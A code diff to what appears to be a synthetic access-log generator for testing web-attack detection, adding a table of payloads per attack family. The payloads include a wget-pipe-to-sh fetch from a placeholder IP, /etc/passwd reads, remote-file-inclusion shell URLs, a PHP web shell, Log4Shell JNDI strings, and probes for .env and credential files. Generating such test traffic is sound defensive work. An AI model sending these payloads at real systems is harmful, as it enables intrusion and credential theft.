@@ -441,6 +441,98 @@ def crlf_injection(kit: AttackKit, start_ms: int):
     )
 
 
+# One attacker per CRS family that an access log shows, its payloads as public exploits and scanners
+# (nuclei templates, sqlmap's and commix's tampers, PayloadsAllTheThings) write them.
+FAMILY_PAYLOADS: dict[str, tuple[tuple[str, ...], tuple[str, ...]]] = {  # scenario: (payloads, paths)
+    "command_injection": (
+        (
+            ";cat /etc/passwd",
+            "|id",
+            "$(wget http://198.51.100.9/x -O- | sh)",
+            "`uname -a`",
+            "&& whoami",
+            "|| ping -c 3 127.0.0.1",
+        ),
+        ("/ping?host=127.0.0.1", "/cgi-bin/status?x=", "/api/diag?target=example.org"),
+    ),
+    "rfi_injection": (
+        (
+            "http://198.51.100.9/shell.txt?",
+            "https://203.0.113.77/x.txt?",
+            "ftp://198.51.100.9/r57.txt",
+            "http://198.51.100.9/c.txt%00",
+        ),
+        ("/index.php?page=", "/include.php?file=", "/view.php?template="),
+    ),
+    "php_injection": (
+        (
+            "<?php system($_GET['c']); ?>",
+            "php://filter/convert.base64-encode/resource=index.php",
+            "php://input",
+            'O:8:"stdClass":1:{s:4:"data";s:2:"id";}',
+            "${@print(md5(1))}",
+            "<?= `id` ?>",
+        ),
+        ("/index.php?page=", "/wp-admin/admin-ajax.php?data=", "/?s="),
+    ),
+    "node_injection": (
+        ("require('child_process').exec('id')", "process.mainModule.require('fs').readFileSync('/etc/passwd')"),
+        (
+            "/api/items?filter[__proto__][isAdmin]=true&q=",
+            "/api/run?code=",
+            "/api/merge?constructor[prototype][polluted]=1&x=",
+        ),
+    ),
+    "java_injection": (
+        (
+            "${jndi:ldap://198.51.100.9:1389/a}",
+            "${jndi:rmi://198.51.100.9/o}",
+            "java.lang.Runtime.getRuntime().exec('id')",
+            "${${lower:j}ndi:${lower:l}dap://198.51.100.9/x}",
+        ),
+        ("/login?user=", "/api/search?q=", "/?x="),
+    ),
+    "session_fixation": (
+        (
+            '<meta http-equiv="Set-Cookie" content="SESSIONID=fixated">',
+            "document.cookie='JSESSIONID=fixated; domain=.example.org'",
+        ),
+        ("/index.php?msg=", "/login?next="),
+    ),
+    "ldap_injection": (
+        ("*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectclass=*)", "x)(|(password=*)"),
+        ("/directory/search?user=", "/login?username=", "/people?cn="),
+    ),
+    "generic_injection": (
+        ("<%= 7*7 %>", "{{7*7}}${7*7}", "#{7*7}", "system('id')", "__import__('os').popen('id').read()"),
+        ("/render?template=", "/search?q=", "/preview?body="),
+    ),
+}
+
+
+def _family_probe(family: str) -> Callable:
+    payloads, paths = FAMILY_PAYLOADS[family]
+
+    def probe(kit: AttackKit, start_ms: int):
+        return _payload_requests(kit, start_ms, payloads, paths, kit.rng.randrange(2, len(payloads) + 1))
+
+    probe.__name__ = family
+    probe.__doc__ = f"Payloads of the {family.replace('_', ' ')} family in a parameter, encoded as tools send them."
+    return probe
+
+
+def site_exposure(kit: AttackKit, start_ms: int):
+    """A scanner finds what the site leaks: most probes refused, one secret served (an `.env` or a
+    `.git/config` answered 200)."""
+    ip, agent = kit.attacker_ip(), kit.rng.choice(SCRIPT_AGENTS)
+    leaked = kit.rng.choice(("/.env", "/.git/config", "/backup/site.sql"))
+    paths = [*kit.rng.sample(("/.env.local", "/.aws/credentials", "/.htpasswd", "/id_rsa"), 2), leaked]
+    return [
+        kit.event(ts, ip, agent, path, "GET", 200 if path == leaked else 404, "view_page", LOW)
+        for ts, path in zip(kit.gaps(start_ms, len(paths), 300, 2000), paths)
+    ], None
+
+
 def mixed_web_attack(kit: AttackKit, start_ms: int):
     """An attacker who mixes techniques, each below its family's own threshold: three SQL injections, two
     XSS and two file probes."""
@@ -510,6 +602,8 @@ SCENARIOS: dict[str, Callable] = {
         ssi_injection,
         crlf_injection,
         mixed_web_attack,
+        site_exposure,
+        *(_family_probe(family) for family in FAMILY_PAYLOADS),
     )
 }
 
